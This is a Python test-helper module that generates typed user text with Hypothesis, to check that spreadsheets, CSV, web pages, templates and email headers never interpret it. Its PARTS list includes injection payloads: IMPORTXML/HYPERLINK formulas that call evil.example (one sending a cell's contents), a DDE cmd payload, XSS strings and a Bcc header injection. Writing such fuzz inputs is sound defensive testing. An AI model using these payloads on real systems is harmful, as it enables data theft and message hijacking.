"""Text that people may type, and what it must never become: a formula, a part of a page, a header."""

from collections.abc import Iterator, Mapping
from html.parser import HTMLParser
from typing import Any

from hypothesis import strategies as st

MARK = "zzmarkzz"
PARTS = (
    *"=+-@\t\n\r'\";,|<>&%\\\u202e\u2028",
    *("{{", "}}", "{%", "%}", "%s", "&lt;b&gt;", "{{ program }}", "#REF!", "TRUE", "007", "1/2", "=" * 60),
    f'=HYPERLINK("https://evil.example/{MARK}","{MARK}")',
    f'=IMPORTXML("https://evil.example/?x="&A1,"//{MARK}")',
    f"=cmd|'/C {MARK}'!A0",
    f"@SUM(1+1)*{MARK}",
    f"<script>{MARK}()</script>",
    f"<img src=x onerror={MARK}>",
    f"</td></table><a href='https://evil.example/{MARK}'>",
    *("<!-- letter -->", "<!-- end of letter -->", "<!-- reference -->", "Reference: AAAAAAAAAAAAA"),
    f"\r\nBcc: eve@evil.example\r\n\r\n{MARK}",
    "javascript:alert(1)",
)
"""What has a meaning in a sheet, in CSV, in a page, in a template or in a message."""
ANY = st.characters(exclude_categories=["Cs"], exclude_characters="\x00")
_PIECES = st.lists(st.one_of(st.sampled_from(PARTS), st.text(ANY, max_size=12)), min_size=1, max_size=5)
TYPED = _PIECES.map("".join).filter(bool)
"""Anything that may be typed into a cell."""
LINE = TYPED.map(lambda text: " ".join(text.split())).filter(bool)
"""The same on one line, as names and titles come out of a roster."""


def formulas(part: object) -> Iterator[str]:
    """Every formula in requests or answers, and what conditions compute."""
    if isinstance(part, Mapping):
        for name, value in part.items():
            if name == "formulaValue" or (name == "userEnteredValue" and isinstance(value, str)):
                yield str(value)
            else:
                yield from formulas(value)
    elif isinstance(part, list | tuple):
        for one in part:
            yield from formulas(one)


class Page(HTMLParser):
    """The elements of a page with their attributes, and its words."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.parts: list[tuple[str, Any]] = []
        self.words = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.parts.append((tag, tuple(attrs)))

    def handle_comment(self, data: str) -> None:
        self.parts.append(("comment", data))

    def handle_data(self, data: str) -> None:
        self.words += data
